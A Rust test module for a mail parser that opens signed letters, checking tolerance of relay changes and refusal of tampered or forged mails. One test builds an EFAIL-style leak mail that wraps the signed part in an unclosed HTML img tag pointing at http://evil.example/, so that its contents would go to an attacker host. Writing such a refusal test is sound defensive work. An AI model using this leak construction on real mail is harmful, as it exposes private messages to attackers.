//! The outer mail around real letters (hard-cases 5.1).

use base64::{Engine as _, engine::general_purpose::STANDARD};

use super::*;

fn good() -> String {
    String::from_utf8(wrap(&letter_by(&People::get().shop, LETTER))).unwrap()
}

#[test]
fn what_relays_do_to_line_ends_changes_nothing_b10() {
    let mail = good();
    let lf = mail.replace("\r\n", "\n");
    let mixed = mail.replacen("\r\n", "\n", 9);
    for mail in [&lf, &mixed, &mail.replace("\r\n", "\r"), &format!("\u{feff}{lf}"), &format!("From a@b now\n{lf}")] {
        assert_eq!(open(mail.as_bytes()).unwrap().signed_bytes(), LETTER);
    }
}

#[test]
fn a_relay_may_encode_the_part_anew_b11() {
    let mail = good();
    let (head, rest) = mail.split_once("-----BEGIN").unwrap();
    let (armor, tail) = rest.split_once("\r\n\r\n--mo-").unwrap();
    let encoded = STANDARD.encode(format!("-----BEGIN{armor}\r\n"));
    let lines: Vec<&str> = encoded.as_bytes().chunks(76).map(|c| std::str::from_utf8(c).unwrap()).collect();
    let head = head.replacen(
        "Content-Disposition: inline",
        "Content-Transfer-Encoding: base64\r\nContent-Disposition: inline",
        1,
    );
    let whole = format!("{head}{}\r\n--mo-{tail}", lines.join("\r\n"));
    assert_eq!(open(whole.as_bytes()).unwrap().signed_bytes(), LETTER);
    let junk = whole.replacen("LS0t", "L*0t", 1);
    assert_eq!(code(&open(junk.as_bytes())), "bad-shape");
}

#[test]
fn letters_changed_on_the_way_are_told_as_such_b14() {
    let mail = good();
    let (_, from_type) = mail.split_once("Content-Type").unwrap();
    let footer = format!(
        "From: list@example.com\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\nContent-Type{from_type}\
         \r\n--outer\r\nContent-Type: text/plain\r\n\r\nunsubscribe\r\n--outer--\r\n"
    );
    let exchange = mail.replace("multipart/encrypted", "multipart/mixed").replacen(
        "\r\n\r\n--mo-",
        "\r\n\r\n--mo-0f1e2d3c4b5a6978\r\nContent-Type: text/plain\r\n\r\n\r\n--mo-",
        1,
    );
    for mail in [footer, exchange] {
        let Err(SetAside::BadShape(reason)) = open(mail.as_bytes()) else { panic!("{mail}") };
        assert!(reason.contains("changed on the way"), "{reason}");
    }
}

#[test]
fn mails_built_to_leak_or_to_forge_are_refused_b45() {
    let mail = good();
    let (_, from_type) = mail.split_once("Content-Type").unwrap();
    let html = "--o\r\nContent-Type: text/html\r\n\r\n";
    let leak = format!(
        "Content-Type: multipart/mixed; boundary=o\r\n\r\n{html}<img src=\"http://evil.example/\r\n--o\r\n\
         Content-Type{from_type}\r\n{html}\">\r\n--o--\r\n"
    );
    assert_eq!(code(&open(leak.as_bytes())), "bad-shape");
    // The letter as an attachment, or forwarded, under another text.
    let forwarded = format!(
        "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/plain\r\n\r\npay me\r\n--o\r\n\
         Content-Type: message/rfc822\r\n\r\n{mail}\r\n--o--\r\n"
    );
    assert_eq!(code(&open(forwarded.as_bytes())), "not-ours");
    // A third part in front of or behind the message.
    let third = mail.replace("--mo-0f1e2d3c4b5a6978--", "--mo-0f1e2d3c4b5a6978\r\n\r\nx\r\n--mo-0f1e2d3c4b5a6978--");
    assert_eq!(code(&open(third.as_bytes())), "bad-shape");
}

#[test]
fn ordinary_mail_is_not_ours_b60() {
    let inline =
        format!("From: shop@example.com\r\n\r\n{}", String::from_utf8(letter_by(&People::get().shop, LETTER)).unwrap());
    for mail in ["From: shop@example.com\r\nSubject: order shipped\r\n\r\nhello\r\n", inline.as_str(), "", "\r\n"] {
        assert_eq!(code(&open(mail.as_bytes())), "not-ours");
    }
}
